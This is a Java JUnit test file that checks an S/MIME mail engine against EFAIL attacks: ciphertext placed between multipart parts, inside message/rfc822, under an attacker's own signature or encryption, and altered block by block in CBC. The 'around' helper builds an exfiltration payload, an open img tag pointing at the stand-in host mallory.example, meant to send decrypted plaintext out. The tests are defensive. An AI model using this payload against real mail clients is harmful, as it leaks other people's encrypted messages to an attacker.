package dev.signet.attacks;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;

import dev.signet.cases.Mail;
import dev.signet.cases.World;
import dev.signet.engine.report.InnerParts;
import dev.signet.engine.report.StatusCode;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * EFAIL (Poddebniak and others, 2018): ciphertext of a stranger's put between parts of the
 * attacker's, so that a reader decrypts it into a page that sends it away; and ciphertext in CBC
 * changed block by block.
 */
@DisplayName("Another's ciphertext within an attacker's mail")
class EfailTest {
  private static final String SECRET = "aus K";

  private final AttackedEngine engine = new AttackedEngine(World.get().bob());
  private final Mail mail = Mail.fromAlice();

  private String ciphertext() {
    return Sample.text(mail.encrypted(Mail.ENTITY, World.get().bob()));
  }

  private static String around(String subtype, String ciphertext) {
    return "Content-Type: multipart/"
        + subtype
        + "; boundary=e\r\n\r\n--e\r\nContent-Type: text/html\r\n\r\n"
        + "<img src=\"https://mallory.example/\r\n--e\r\n"
        + ciphertext
        + "\r\n--e\r\nContent-Type: text/html\r\n\r\n\">\r\n--e--\r\n";
  }

  private void staysClosed(StatusCode code, byte[] message) {
    AttackedEngine.Opened opened = engine.verdict(code, message);
    assertFalse(opened.text().contains(SECRET));
  }

  @ParameterizedTest
  @ValueSource(strings = {"mixed", "related", "alternative", "parallel", "encrypted"})
  @DisplayName("is not decrypted between parts of any multipart")
  void between(String subtype) {
    byte[] message = mail.of(around(subtype, ciphertext()).getBytes(ISO_8859_1));
    staysClosed(StatusCode.UNSIGNED, message);
    assertEquals(new InnerParts(0, 1), engine.open(message).message().inner());
  }

  @Test
  @DisplayName("is not decrypted between parts of what says that it is signed")
  void betweenSigned() {
    byte[] message = mail.of(around("signed", ciphertext()).getBytes(ISO_8859_1));
    staysClosed(StatusCode.MALFORMED, message);
  }

  @Test
  @DisplayName("is not decrypted in a message within the message")
  void embedded() {
    staysClosed(
        StatusCode.UNSIGNED,
        mail.of(("Content-Type: message/rfc822\r\n\r\n" + ciphertext()).getBytes(ISO_8859_1)));
  }

  @Test
  @DisplayName("is not decrypted below the attacker's own signature or encryption")
  void wrapped() {
    byte[] mixed = around("mixed", ciphertext()).getBytes(ISO_8859_1);
    staysClosed(
        StatusCode.UNTRUSTED, mail.of(mail.signed(mixed, World.get().stranger(), "-binary")));
    staysClosed(StatusCode.DECRYPTED, mail.of(mail.encrypted(mixed, World.get().bob())));
  }

  @Test
  @DisplayName("changed block by block is never green with other content than was signed")
  void gadgets() {
    byte[] signed = mail.signed(Mail.ENTITY, World.get().alice(), "-binary");
    byte[] cms = Sample.cms(mail.encrypted(signed, World.get().bob()));
    byte[] ciphertext = Forged.ciphertext(cms);
    assertArrayEquals(Mail.ENTITY, engine.open(mail.of(Sample.holding(cms))).content());
    for (int block = 0; block + 32 <= ciphertext.length && block < 1024; block += 16) {
      byte[] doubled = new byte[ciphertext.length + 16];
      System.arraycopy(ciphertext, 0, doubled, 0, block + 16);
      System.arraycopy(ciphertext, block, doubled, block + 16, ciphertext.length - block);
      AttackedEngine.Opened opened =
          engine.open(mail.of(Sample.holding(Forged.changed(cms, doubled))));
      if (opened.green()) {
        assertArrayEquals(Mail.ENTITY, opened.content());
      }
    }
  }
}
